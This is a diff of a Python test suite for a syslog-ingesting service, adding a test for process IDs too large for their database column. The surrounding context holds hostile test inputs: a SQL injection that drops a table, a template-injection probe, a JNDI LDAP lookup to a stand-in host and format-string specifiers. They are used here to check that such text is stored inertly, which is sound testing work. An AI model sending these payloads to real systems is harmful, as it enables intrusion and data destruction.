@@ -146,6 +146,20 @@ def test_far_timestamps_and_control_characters_in_host_names(serve: Serve) -> No
     assert [r["host"] for r in _stored(serve, "escape in the host")] == ["ho\x1bst"]
 
 
+def test_numbers_too_big_for_their_columns_cost_no_neighbour(serve: Serve) -> None:
+    """A PID beyond 32 bits (the store's column) is dropped from the record, so the line and the
+    rest of its batch are stored and the store stays healthy."""
+    failures = serve.value("pairwatch_store_insert_failures_total")
+    _send_then_good(serve, _counted(b"<30>Mar  3 08:15:02 h dhcpd[99999999999]: pid too big for the column")
+                    + _counted(b"<30>Mar  3 08:15:02 h dhcpd[4294967296]: DHCPDISCOVER from 00:00:5e:00:53:01 via eth0"))
+    (row,) = _stored(serve, "pid too big")
+    assert (row["message"], row["pid"]) == ("dhcpd[99999999999]: pid too big for the column", None)
+    (lease,) = _stored(serve, "DHCPDISCOVER from 00:00:5e:00:53:01")
+    assert lease["pid"] is None and lease["kind"] == "lease.discover"
+    assert serve.value("pairwatch_store_insert_failures_total") == failures
+    assert serve.get("/readyz")[0] == 200
+
+
 def test_sql_and_template_text_is_stored_verbatim(serve: Serve) -> None:
     nasty = ["x'); DROP TABLE messages; --", "{{7*7}} ${jndi:ldap://198.18.0.9/a} %s%n", "\\' OR 1=1 -- \\\\"]
     _send_then_good(serve, b"".join(_counted(f"<30>Mar  3 08:15:02 h dhcpd: nasty {x}".encode()) for x in nasty))
